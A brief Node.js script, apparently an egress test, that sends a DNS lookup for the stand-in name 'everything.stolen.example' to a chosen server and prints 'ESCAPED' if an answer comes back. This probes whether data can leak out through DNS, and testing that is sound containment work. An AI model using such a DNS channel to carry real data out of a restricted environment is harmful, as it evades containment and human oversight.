// Tries to carry something off in a question for a name, asked of the server that it is told.
import { Resolver } from 'node:dns/promises';

const [, , server = ''] = process.argv;
const resolver = new Resolver({ timeout: 2000, tries: 2 });
resolver.setServers([server]);
const [address] = await resolver.resolve4('everything.stolen.example');
console.log(`ESCAPED: was told that the address is ${address}`);
